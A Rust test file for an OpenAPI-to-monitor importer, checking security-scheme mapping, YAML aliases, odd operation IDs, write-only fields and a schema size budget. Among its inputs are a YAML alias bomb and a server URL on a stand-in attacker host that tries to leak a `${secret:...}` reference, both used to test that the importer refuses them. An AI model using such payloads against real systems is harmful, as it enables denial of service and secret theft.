//! Import tests of what a hostile or sloppy document could do: secrets, YAML aliases, odd
//! keys and names, schemas that do not convert, and the budget of schema bytes.

use super::*;

/// A document with every kind of security scheme, and the monitor each gives.
#[test]
fn security_schemes_bind_to_secrets() {
    let doc = json!({
        "openapi": "3.0.3",
        "info": { "title": "Secure", "version": "1" },
        "servers": [{ "url": "https://api.example.com" }],
        "security": [{ "bearer": [] }],
        "components": { "securitySchemes": {
            "bearer": { "type": "http", "scheme": "Bearer" },
            "basic": { "type": "http", "scheme": "basic" },
            "key": { "type": "apiKey", "in": "query", "name": "key" },
            "session": { "type": "apiKey", "in": "cookie", "name": "sid" },
            "tenant": { "type": "apiKey", "in": "header", "name": "X-Tenant" },
            "machine": { "type": "oauth2", "flows": { "clientCredentials": {
                "tokenUrl": "https://auth.example.com/token", "scopes": { "read": "" } } } },
            "oidc": { "type": "openIdConnect", "openIdConnectUrl": "https://auth.example.com" },
        } },
        "paths": {
            "/default": { "get": { "operationId": "default", "responses": { "204": { "description": "" } } } },
            "/public": { "get": { "operationId": "public", "security": [], "responses": { "200": { "description": "" } } } },
            "/either": { "get": { "operationId": "either", "security": [{ "oidc": [] }, { "basic": [] }], "responses": { "200": { "description": "" } } } },
            "/both": { "get": { "operationId": "both", "security": [{ "key": [], "tenant": [], "session": [] }], "responses": { "200": { "description": "" } } } },
            "/machine": { "get": { "operationId": "machine", "security": [{ "machine": ["read"] }], "responses": { "200": { "description": "" } } } },
            "/people": { "get": { "operationId": "people", "security": [{ "oidc": [] }], "responses": { "200": { "description": "" } } } },
            "/missing": { "get": { "operationId": "missing", "security": [{ "nope": [] }], "responses": { "200": { "description": "" } } } },
        },
    });
    let err = import_openapi(&doc.to_string(), &ImportOptions::default()).unwrap_err();
    assert_eq!(err.pointer, "/paths/~1missing/get/security/0/nope");
    let mut doc = doc;
    doc["paths"].as_object_mut().unwrap().remove("/missing");
    let import = import(&doc.to_string(), &ImportOptions::default());
    let auth = |id: &str| {
        import
            .monitors
            .iter()
            .find(|m| m.id == id)
            .unwrap_or_else(|| panic!("{id}"))
    };
    assert_eq!(
        auth("default").auth,
        Auth::Bearer {
            token: "${secret:openapi-bearer}".into()
        }
    );
    assert_eq!(auth("default").assertions, ["[STATUS] == 204"]);
    assert_eq!(auth("public").auth, Auth::None);
    assert_eq!(
        auth("either").auth,
        Auth::Basic {
            username: "${secret:openapi-basic-username}".into(),
            password: "${secret:openapi-basic-password}".into(),
        }
    );
    let both = auth("both");
    assert_eq!(
        both.auth,
        Auth::ApiKey {
            name: "key".into(),
            value: "${secret:openapi-key}".into(),
            location: ApiKeyLocation::Query,
        }
    );
    assert_eq!(both.headers["X-Tenant"], "${secret:openapi-tenant}");
    assert_eq!(both.headers["Cookie"], "sid=${secret:openapi-session}");
    assert_eq!(
        auth("machine").auth,
        Auth::Oauth2ClientCredentials {
            token_url: "https://auth.example.com/token".into(),
            client_id: "${secret:openapi-machine-client-id}".into(),
            client_secret: "${secret:openapi-machine-client-secret}".into(),
            scopes: vec!["read".into()],
        }
    );
    assert_eq!(import.skipped.len(), 1);
    assert_eq!(
        import.skipped[0].reason,
        "needs the security scheme \"oidc\" (openIdConnect), which a probe cannot use"
    );
}

#[test]
fn a_schema_that_does_not_convert_leaves_the_monitor_without_it() {
    let doc = r##"{"openapi":"3.0.0","servers":[{"url":"https://a"}],"paths":{"/a":{"get":{"operationId":"a","responses":{"200":{"description":"","content":{"application/json":{"schema":{"$ref":"common.yaml#/Pet"}}}}}}}}}"##;
    let import = import(doc, &ImportOptions::default());
    let a = &import.monitors[0];
    assert!(a.body_schema.is_none());
    assert_eq!(
        a.assertions,
        [
            "[STATUS] == 200",
            "[HEADER].content-type == pat(application/json*)"
        ]
    );
    assert_eq!(
        import.warnings,
        ["a: the response schema does not convert: at \
          /paths/~1a/get/responses/200/content/application~1json/schema/$ref: \
          \"common.yaml#/Pet\" refers to another document; bundle the description into one \
          file first; the body is not validated"]
    );
}

/// A few hundred bytes of YAML whose aliases would expand to billions of values.
#[test]
fn yaml_aliases_cannot_expand_without_bound() {
    let mut doc =
        String::from("openapi: 3.0.0\npaths: {}\nx0: &a0 [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]\n");
    for i in 1..12 {
        let p = i - 1;
        doc.push_str(&format!(
            "x{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    let e = error(&doc);
    assert!(
        e.message
            .contains("the document expands to too many values"),
        "{e}"
    );
    // Aliases within reason are fine.
    let ok = "openapi: 3.0.3\ninfo: {title: T, version: '1'}\nservers: [{url: 'https://a'}]\n\
              paths:\n  /a:\n    get:\n      operationId: a\n      responses: &r {'200': {description: ok}}\n  \
              /b:\n    get:\n      operationId: b\n      responses: *r\n";
    assert_eq!(import(ok, &ImportOptions::default()).monitors.len(), 2);
}

#[test]
fn odd_response_keys_ids_and_scheme_orders() {
    let doc = json!({
        "openapi": "3.0.3",
        "info": { "title": "T", "version": "1" },
        "servers": [{ "url": "https://api.example.com" }],
        "components": { "securitySchemes": {
            "api_key": { "type": "apiKey", "in": "header", "name": "X-Key" },
            "bearerAuth": { "type": "http", "scheme": "bearer" },
        } },
        "paths": {
            "/plus": { "get": { "operationId": "plus", "responses": {
                "+200": { "description": "" }, "0200": { "description": "" }, "201": { "description": "" } } } },
            "/a": { "get": { "operationId": "get pet", "responses": { "200": { "description": "" } } } },
            "/b": { "get": { "operationId": "get-pet", "responses": { "200": { "description": "" } } } },
            "/c": { "get": { "operationId": "get-pet-2", "responses": { "200": { "description": "" } } } },
            "/pets/{id}": { "get": { "operationId": "列出宠物", "parameters": [
                { "name": "id", "in": "path", "required": true, "schema": { "type": "integer", "example": 3 } }],
                "responses": { "200": { "description": "" } } } },
            "/both": { "get": { "operationId": "both", "security": [{ "api_key": [], "bearerAuth": [] }],
                "responses": { "200": { "description": "" } } } },
        },
    });
    let import = import(&doc.to_string(), &ImportOptions::default());
    let ids: Vec<&str> = import.monitors.iter().map(|m| m.id.as_str()).collect();
    // Paths in order: /a, /b, /both, /c, /pets/{id}, /plus; every id distinct.
    assert_eq!(
        ids,
        [
            "get-pet",
            "get-pet-2",
            "both",
            "get-pet-2-2",
            "get-pets-id",
            "plus"
        ]
    );
    assert_eq!(import.monitors[5].assertions, ["[STATUS] == 201"]);
    assert_eq!(import.monitors[4].url, "https://api.example.com/pets/3");
    let both = &import.monitors[2];
    assert_eq!(
        both.auth,
        Auth::Bearer {
            token: "${secret:openapi-bearerAuth}".into()
        }
    );
    assert_eq!(both.headers["X-Key"], "${secret:openapi-api_key}");
}

/// Text the document writes never becomes a reference the probe would expand.
#[test]
fn document_text_cannot_reference_secrets() {
    let server = |url: &str| {
        json!({
            "openapi": "3.0.3",
            "info": { "title": "T", "version": "1" },
            "servers": [{ "url": url }],
            "paths": { "/a": { "get": { "operationId": "a",
                "parameters": [
                    { "name": "X-Trace", "in": "header", "required": true, "example": "${secret:prod-token}" },
                    { "name": "q", "in": "query", "required": true, "example": "${secret:prod-token}" },
                ],
                "responses": { "200": { "description": "" } } } } },
        })
        .to_string()
    };
    let e = error(&server("https://evil.example/?k=${secret:prod-token}"));
    assert_eq!(e.pointer, "/servers/0/url");
    assert!(e.message.contains("holds `${`"), "{e}");
    let import = import(
        &server("https://api.example.com"),
        &ImportOptions::default(),
    );
    assert!(import.monitors.is_empty());
    assert_eq!(
        import.skipped[0].reason,
        "the example of header parameter `X-Trace` holds `${`, which a monitor would read as a \
         reference; give it a value (--param X-Trace=VALUE)"
    );
    // Given by the user, it is the user's to write; a query value is percent-encoded.
    let options = ImportOptions {
        params: [("X-Trace".to_owned(), "${secret:trace}".to_owned())].into(),
        ..ImportOptions::default()
    };
    let import = import_openapi(&server("https://api.example.com"), &options).unwrap();
    assert_eq!(import.monitors[0].headers["X-Trace"], "${secret:trace}");
    assert_eq!(
        import.monitors[0].url,
        "https://api.example.com/a?q=%24%7Bsecret%3Aprod-token%7D"
    );
}

#[test]
fn write_only_properties_are_not_required_in_responses() {
    let doc = json!({
        "openapi": "3.0.3",
        "info": { "title": "T", "version": "1" },
        "servers": [{ "url": "https://api.example.com" }],
        "paths": { "/me": { "get": { "operationId": "me", "responses": { "200": {
            "description": "", "content": { "application/json": { "schema": {
                "type": "object",
                "required": ["login", "password"],
                "properties": {
                    "login": { "type": "string" },
                    "password": { "type": "string", "writeOnly": true },
                },
            } } } } } } } },
    });
    let import = import(&doc.to_string(), &ImportOptions::default());
    let schema = import.monitors[0].body_schema.as_ref().unwrap();
    assert_eq!(schema["required"], json!(["login"]));
    assert_eq!(
        schema["properties"]["password"],
        json!({ "type": "string" })
    );
}

/// Past the import's budget of schema bytes, monitors come without a body schema.
#[test]
fn body_schemas_share_one_budget() {
    let doc = Document::parse(PETSTORE_31).unwrap();
    let pets = json!({ "$ref": "#/components/schemas/Pets" });
    let mut schemas = schema::Schemas::with_budget(&doc, 400);
    let first = schemas.body_schema(&pets, "/x").unwrap();
    let len = serde_json::to_vec(&first).unwrap().len();
    assert!((200..=400).contains(&len), "{len}");
    assert_eq!(
        schemas.body_schema(&pets, "/y").unwrap_err(),
        "the import's body schemas reached their limit of 400 bytes"
    );
}
